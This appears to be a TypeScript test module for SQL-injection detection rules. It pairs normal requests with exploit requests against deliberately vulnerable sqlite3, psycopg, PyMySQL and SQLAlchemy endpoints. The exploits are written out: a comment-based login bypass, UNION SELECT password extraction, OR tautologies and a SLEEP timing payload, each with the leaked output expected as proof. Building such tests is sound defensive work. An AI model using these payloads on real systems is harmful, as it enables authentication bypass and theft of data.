import type { LabModule } from '../../labModule';

export const lab: LabModule = {
  rules: ['sql-injection', 'sqlalchemy-raw-clause'],
  needs: ['postgres', 'mariadb'],
  cases: [
    {
      name: 'sqlite3, f-string: login without a password',
      honest: [
        {
          to: 'POST /people/login',
          form: { email: 'ann@example.com', password: 'apple-tree' },
          shows: 'Hello Ann',
        },
        { to: 'POST /people/login', form: { email: 'ann@example.com', password: 'no' }, status: 403 },
      ],
      exploit: [
        {
          to: 'POST /people/login',
          form: { email: "cem@example.com' --", password: '' },
          shows: 'Hello Cem',
        },
      ],
      proof: { body: 'Hello Cem' },
    },
    {
      name: 'sqlite3, += and LIKE: passwords of everybody',
      honest: [
        { to: '/people/', shows: 'Cem' },
        { to: '/people/?q=nn', shows: 'ann@example.com' },
        { to: '/people/?q=zzz', shows: '[]' },
      ],
      exploit: [{ to: '/people/', query: { q: "' UNION SELECT password, email FROM people --" } }],
      proof: { body: 'calm-sea' },
    },
    {
      name: 'sqlite3, str.format: an UPDATE of everything',
      honest: [
        { to: 'POST /people/Cem/rename', form: { name: 'Cem B.' }, shows: 'Cem B.' },
        { to: '/people/1/email', shows: 'ann@example.com' },
        { to: '/people/1/password', status: 404 },
      ],
      exploit: [
        { to: "POST /people/x'%20OR%20'a'='a/rename", form: { name: 'gone' } },
        { to: '/people/2/name' },
      ],
      proof: { body: 'gone' },
    },
    {
      name: 'psycopg, percent: orders of others',
      honest: [
        { to: '/orders/?customer=ann', shows: '50% off pen' },
        { to: '/orders/?customer=nobody', shows: '[]' },
      ],
      exploit: [{ to: '/orders/', query: { customer: "' OR customer <> '" } }],
      proof: { body: 'secret gift' },
    },
    {
      name: 'psycopg, text of several lines with LIKE',
      honest: [
        { to: '/orders/items?customer=ann&item=IN', shows: 'ink' },
        { to: '/orders/items?customer=ann&item=off', shows: '50% off pen' },
      ],
      exploit: [
        {
          to: '/orders/items',
          query: { customer: 'ann', item: "' UNION SELECT customer || item FROM orders --" },
        },
      ],
      proof: { body: 'bobsecret gift' },
    },
    {
      name: 'psycopg, a number: two statements',
      honest: [
        { to: '/orders/above?total=5', shows: 'ink' },
        { to: '/orders/above', shows: '50% off pen' },
      ],
      exploit: [{ to: '/orders/above', query: { total: '0 OR customer IS NOT NULL' } }],
      proof: { body: 'secret gift' },
    },
    {
      name: 'PyMySQL, a query kept in a variable',
      honest: [
        { to: '/stock/?shelf=A1', shows: 'bolt' },
        { to: '/stock/?shelf=Q', shows: '' },
      ],
      exploit: [{ to: '/stock/', query: { shelf: '" OR price > 1000 -- ' } }],
      proof: { body: 'prototype' },
    },
    {
      name: 'PyMySQL, plus, JSON: the server sleeps',
      honest: [{ to: 'POST /stock/count', json: { name: 'bolt' }, shows: '"n":1' }],
      exploit: [{ to: 'POST /stock/count', json: { name: "' OR SLEEP(0.4) -- " } }],
      proof: { slowerThanMs: 1000 },
    },
    {
      name: 'SQLAlchemy, text() in the session',
      honest: [{ to: '/catalog/by/Ng', shows: 'The Hidden Bay' }],
      exploit: [{ to: "/catalog/by/Ng'%20--%20" }],
      proof: { body: 'Unfinished' },
    },
    {
      name: 'SQLAlchemy, text() in a filter',
      honest: [
        { to: '/catalog/titles?word=Rain', shows: 'Raining' },
        { to: '/catalog/titles', shows: 'Hidden' },
      ],
      exploit: [{ to: '/catalog/titles', query: { word: "' OR is_draft OR title = '" } }],
      proof: { body: 'Unfinished' },
    },
    {
      name: 'SQLAlchemy, text() of a variable on a connection',
      honest: [{ to: '/catalog/raw?author=Ruiz', shows: 'Raining' }],
      exploit: [{ to: '/catalog/raw', query: { author: "' OR is_draft --" } }],
      proof: { body: 'Unfinished' },
    },
  ],
};
